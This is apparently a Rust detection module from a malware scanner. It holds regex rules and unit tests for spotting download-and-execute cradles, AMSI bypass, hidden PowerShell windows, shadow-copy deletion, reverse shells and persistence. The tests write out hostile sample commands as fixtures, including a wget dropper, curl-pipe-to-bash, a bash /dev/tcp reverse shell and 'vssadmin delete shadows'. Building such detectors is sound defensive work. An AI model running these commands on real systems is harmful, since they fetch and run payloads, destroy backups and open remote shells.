//! Behaviour visible in text: download-and-execute, AMSI bypass, hidden windows, persistence,
//! shadow-copy deletion, reverse shells.
//!
//! These rules read the strings corpus plus the deobfuscated code. Rules that pair two common
//! words (a download API and an execute API) only apply to scripts, and only when the two are
//! within a few hundred bytes: in a binary's strings, or far apart in a long installer script,
//! both words appear by coincidence. Rules that match a specific idiom (`vssadmin delete shadows`,
//! `bash -i >& /dev/tcp/`, `curl ... | sh`) apply to every file type.

use std::collections::BTreeSet;
use std::sync::LazyLock;

use regex::Regex;

use super::apis;
use super::indicators::Ind;
use crate::report::{FileType, Indicator};

fn re(p: &str) -> Option<Regex> {
    super::text::regex(p)
}

static DOWNLOAD: LazyLock<Option<Regex>> = LazyLock::new(|| {
    re(concat!(
        r"(?i)\b(?:DownloadString|DownloadFile|DownloadData|Invoke-WebRequest|iwr|",
        r"Invoke-RestMethod|irm|Start-BitsTransfer|Net\.WebClient|URLDownloadToFile|",
        r"XMLHTTP|ServerXMLHTTP|WinHttpRequest|urlopen|urlretrieve|requests\.get|wget|",
        r"curl)\b|\bbitsadmin(?:\.exe)?\s+/transfer|\bcertutil(?:\.exe)?\s+-urlcache",
    ))
});
static EXECUTE: LazyLock<Option<Regex>> = LazyLock::new(|| {
    re(concat!(
        r"(?i)\b(?:iex|Invoke-Expression|Start-Process|Invoke-Item|ShellExecute|WinExec|",
        r"eval|Execute|ExecuteGlobal|exec|os\.system|subprocess|rundll32|regsvr32|",
        r"mshta)\b|\.(?:Run|Exec|ShellExecute)\s*\(|\bchmod\s+\+x",
    ))
});
/// Shell scripts: `exec`/`eval` are everyday builtins, so a download there must name a URL and
/// the execution must make the file runnable.
static DOWNLOAD_SH: LazyLock<Option<Regex>> = LazyLock::new(|| {
    re(r"(?i)\b(?:wget|curl|fetch|tftp|busybox\s+wget)\b[^\n]{0,200}(?:https?|ftp|tftp)://")
});
static EXECUTE_SH: LazyLock<Option<Regex>> =
    LazyLock::new(|| re(r"\bchmod\s+(?:[ugoa]*\+x|[0-7]?[0-7][1357][1357])\b"));
static PIPE_TO_SHELL: LazyLock<Option<Regex>> = LazyLock::new(|| {
    re(concat!(
        r"(?i)\b(?:curl|wget)\b[^\n|;]{0,300}\|\s*(?:sudo\s+)?(?:ba|z|da|k)?sh\b|\b(?:iwr|",
        r"irm|Invoke-WebRequest|Invoke-RestMethod)\b[^\n|]{0,300}\|\s*(?:iex|",
        r"Invoke-Expression)\b",
    ))
});
static WSCRIPT_SHELL: LazyLock<Option<Regex>> = LazyLock::new(|| re(r"(?i)WScript\.Shell"));
static RUN_CALL: LazyLock<Option<Regex>> = LazyLock::new(|| re(r"(?i)\.(?:Run|Exec)\b"));
static ACTIVEX: LazyLock<Option<Regex>> = LazyLock::new(|| {
    re(concat!(
        r#"(?i)\bnew\s+ActiveXObject\s*\(|\bCreateObject\s*\(\s*["'](?:WScript\.Shell|"#,
        r#"Shell\.Application|Scripting\.FileSystemObject|MSXML2\.(?:Server)?XMLHTTP|"#,
        r#"Microsoft\.XMLHTTP|ADODB\.Stream|WinHttp\.WinHttpRequest)"#,
    ))
});
static AMSI_STRONG: LazyLock<Option<Regex>> =
    LazyLock::new(|| re(r"(?i)AmsiUtils|amsiInitFailed|amsiContext|AmsiScanBufferPatch"));
static AMSI_WEAK: LazyLock<Option<Regex>> = LazyLock::new(|| re(r"(?i)AmsiScanBuffer|amsi\.dll"));
static EXEC_POLICY: LazyLock<Option<Regex>> = LazyLock::new(|| {
    re(concat!(
        r"(?i)(?:^|\s)-(?:ExecutionPolicy|exec|ep|ex)\s+(?:Bypass|Unrestricted)\b|",
        r"Set-ExecutionPolicy\s+(?:Bypass|Unrestricted)",
    ))
});
/// `-WindowStyle Hidden` and the abbreviations PowerShell accepts (`-w h`, `-win hid`, `-w 1`);
/// outside scripts only the spelled-out value counts (`-w 1` is also `wget --wait`).
static HIDDEN: LazyLock<Option<Regex>> =
    LazyLock::new(|| re(r"(?i)(?:^|\s)-w[a-z]*\s+(?:hidden|hid|h|1)\b"));
static HIDDEN_STRICT: LazyLock<Option<Regex>> =
    LazyLock::new(|| re(r"(?i)(?:^|\s)-w(?:indowstyle)?\s+hidden\b"));
static SHADOWS: LazyLock<Option<Regex>> = LazyLock::new(|| {
    re(concat!(
        r"(?i)vssadmin(?:\.exe)?\s+delete\s+shadows|wmic(?:\.exe)?\s+shadowcopy\s+delete|",
        r"bcdedit(?:\.exe)?\s+/set\s+\{default\}\s+recoveryenabled\s+no|",
        r"wbadmin(?:\.exe)?\s+delete\s+catalog",
    ))
});
static REVERSE_SHELL: LazyLock<Option<Regex>> = LazyLock::new(|| {
    re(concat!(
        r"(?i)/dev/tcp/\d|\bnc(?:at)?\b[^\n]{0,100}\s-e\s+/bin/(?:ba)?sh|\bbash\s+-i\s*>&|",
        r"\bpty\.spawn\s*\(|os\.dup2\(\s*\w+\.fileno\(\)",
    ))
});
static RUN_KEY: LazyLock<Option<Regex>> = LazyLock::new(|| {
    re(concat!(
        r"(?i)\\CurrentVersion\\(?:Run|RunOnce|RunServices)\b|\\Winlogon\\?(?:\s|$)|",
        r"\\Winlogon\\(?:Shell|Userinit)",
    ))
});
static PERSIST_CMD: LazyLock<Option<Regex>> = LazyLock::new(|| {
    re(concat!(
        r"(?i)\bschtasks(?:\.exe)?\s+/create\b|",
        r"\breg(?:\.exe)?\s+add\s+\S*\\CurrentVersion\\Run|\bcrontab\s+-|/etc/cron\.|",
        r"\bsystemctl\s+enable\b|\b(?:New|Register)-ScheduledTask\b|\bNew-Service\b|",
        r"\bsc(?:\.exe)?\s+create\b|\\Start Menu\\Programs\\Startup\\",
    ))
});

/// How close a download and an execute must be to count as one download-and-execute.
const PAIR_WINDOW: usize = 512;

/// A download match and an execute match within [`PAIR_WINDOW`] bytes of each other.
fn near_pair(text: &str, shell: bool) -> Option<(String, String)> {
    let (d, e) = if shell {
        (DOWNLOAD_SH.as_ref()?, EXECUTE_SH.as_ref()?)
    } else {
        (DOWNLOAD.as_ref()?, EXECUTE.as_ref()?)
    };
    let execs: Vec<regex::Match> = e.find_iter(text).take(10_000).collect();
    d.find_iter(text).take(10_000).find_map(|dm| {
        let em = execs.iter().find(|em| em.start().abs_diff(dm.start()) <= PAIR_WINDOW)?;
        let short = |s: &str| super::text::clip(s.trim(), 80).to_string();
        Some((short(dm.as_str()), short(em.as_str())))
    })
}

fn found(re: &LazyLock<Option<Regex>>, text: &str) -> Option<String> {
    re.as_ref()?.find(text).map(|m| super::text::clip(m.as_str().trim(), 80).to_string())
}

/// Indicators from behaviour visible in `text` of a file of type `ty` (scripts enable the pairing
/// rules); `apis` are the catalogue APIs found (for persistence through registry or services).
pub fn indicators(text: &str, ty: FileType, apis: &BTreeSet<&'static str>) -> Vec<Indicator> {
    let script = ty.is_script();
    let mut out = Vec::new();
    let pipe = found(&PIPE_TO_SHELL, text);
    let pair = if script { near_pair(text, ty == FileType::Shell) } else { None };
    if let Some(p) = pipe {
        out.push(
            Ind::DownloadExecute.with(format!("Downloads and runs code in one pipeline: {p}")),
        );
    } else if let Some((d, e)) = pair {
        out.push(
            Ind::DownloadExecute.with(format!("Downloads content ({d}) and executes code ({e})")),
        );
    }
    if let (Some(w), Some(_)) = (found(&WSCRIPT_SHELL, text), found(&RUN_CALL, text)) {
        out.push(Ind::WscriptShellExec.with(format!("Runs commands through {w}")));
    }
    if script {
        if let Some(a) = found(&ACTIVEX, text) {
            out.push(Ind::ActiveXObject.with(format!("Creates COM automation objects: {a}")));
        }
    }
    let amsi =
        found(&AMSI_STRONG, text).or_else(|| script.then(|| found(&AMSI_WEAK, text)).flatten());
    if let Some(a) = amsi {
        out.push(Ind::AmsiBypass.with(format!("Tampers with the Antimalware Scan Interface: {a}")));
    }
    if let Some(p) = found(&EXEC_POLICY, text) {
        out.push(
            Ind::ExecutionPolicyBypass.with(format!("Bypasses PowerShell execution policy: {p}")),
        );
    }
    if let Some(h) = found(if script { &HIDDEN } else { &HIDDEN_STRICT }, text) {
        out.push(Ind::HiddenWindow.with(format!("Runs with a hidden window: {h}")));
    }
    if let Some(s) = found(&SHADOWS, text) {
        out.push(Ind::ShadowCopyDeletion.with(format!("Deletes backups or shadow copies: {s}")));
    }
    if let Some(r) = found(&REVERSE_SHELL, text) {
        out.push(Ind::ReverseShell.with(format!("Reverse shell idiom: {r}")));
    }
    let reg_write: Vec<&str> =
        apis.iter().copied().filter(|a| apis::REG_WRITE.contains(a)).collect();
    let service: Vec<&str> = apis.iter().copied().filter(|a| apis::SERVICE.contains(a)).collect();
    let run_key = found(&RUN_KEY, text);
    let persistence = if let Some(cmd) = found(&PERSIST_CMD, text) {
        Some(format!("Installs itself to survive reboots: {cmd}"))
    } else if let (Some(key), true) = (&run_key, script || !reg_write.is_empty()) {
        Some(format!("Writes an autostart registry key ({key}) {}", with_apis(&reg_write)))
    } else if !service.is_empty() {
        Some(format!("Creates or reconfigures a Windows service {}", with_apis(&service)))
    } else {
        None
    };
    if let Some(p) = persistence {
        out.push(Ind::Persistence.with(p.trim_end().to_string()));
    }
    out
}

fn with_apis(names: &[&str]) -> String {
    if names.is_empty() {
        String::new()
    } else {
        format!("via {}", names.join(", "))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(text: &str, script: bool) -> Vec<String> {
        let ty = if script { FileType::PowerShell } else { FileType::Unknown };
        indicators(text, ty, &BTreeSet::new()).into_iter().map(|i| i.id).collect()
    }

    fn shell_ids(text: &str) -> Vec<String> {
        indicators(text, FileType::Shell, &BTreeSet::new()).into_iter().map(|i| i.id).collect()
    }

    #[test]
    fn pairs_must_be_close_and_shell_needs_url_and_chmod() {
        let far = format!("DownloadString('http://x') {} iex $y", " ".repeat(PAIR_WINDOW + 10));
        assert!(ids(&far, true).is_empty());
        assert!(shell_ids("# needs wget\nif x; then eval \"$y\"; fi").is_empty());
        let dropper = "cd /tmp; wget http://1.2.3.4/bot -O b; chmod 777 b; ./b";
        assert_eq!(shell_ids(dropper), ["download-execute"]);
    }

    #[test]
    fn download_execute_pairs_only_in_scripts() {
        let ps = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')";
        assert_eq!(ids(ps, true), ["download-execute"]);
        assert!(ids(ps, false).is_empty());
        assert_eq!(ids("curl -fsSL http://x/i.sh | sudo bash", false), ["download-execute"]);
        assert_eq!(ids("wget -O- http://x/i.sh | sh", false), ["download-execute"]);
    }

    #[test]
    fn powershell_launcher_flags() {
        let got = ids("powershell -nop -w hidden -ExecutionPolicy Bypass -c x", true);
        assert_eq!(got, ["execution-policy-bypass", "hidden-window"]);
        let amsi = "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')";
        assert_eq!(ids(amsi, false), ["amsi-bypass"]);
    }

    #[test]
    fn ransomware_reverse_shell_and_persistence() {
        assert_eq!(
            ids("cmd /c vssadmin delete shadows /all /quiet", false),
            ["shadow-copy-deletion"]
        );
        assert_eq!(ids("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", false), ["reverse-shell"]);
        assert_eq!(ids("schtasks /create /sc onlogon /tr evil.exe", false), ["persistence"]);
        let key = r"Software\Microsoft\Windows\CurrentVersion\Run";
        assert!(ids(key, false).is_empty());
        let apis: BTreeSet<&'static str> = ["RegSetValueEx"].into_iter().collect();
        let with_api: Vec<String> =
            indicators(key, FileType::Unknown, &apis).into_iter().map(|i| i.id).collect();
        assert_eq!(with_api, ["persistence"]);
    }

    #[test]
    fn wscript_and_activex() {
        let js = "var s = new ActiveXObject('WScript.Shell'); s.Run('calc');";
        assert_eq!(ids(js, true), ["wscript-shell-exec", "activex-object"]);
    }
}
